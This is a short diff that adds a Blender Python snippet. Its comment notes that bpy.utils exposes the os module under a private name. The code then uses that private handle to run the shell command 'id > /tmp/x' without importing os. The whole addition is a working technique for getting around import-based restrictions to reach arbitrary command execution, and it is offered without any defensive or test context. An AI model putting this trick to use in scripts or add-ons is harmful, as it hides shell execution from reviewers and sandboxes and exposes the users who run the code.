@@ -1,0 +1,3 @@
+# why: bpy.utils keeps os under a private name, no import of os is needed
+import bpy
+bpy.utils._os.system("id > /tmp/x")
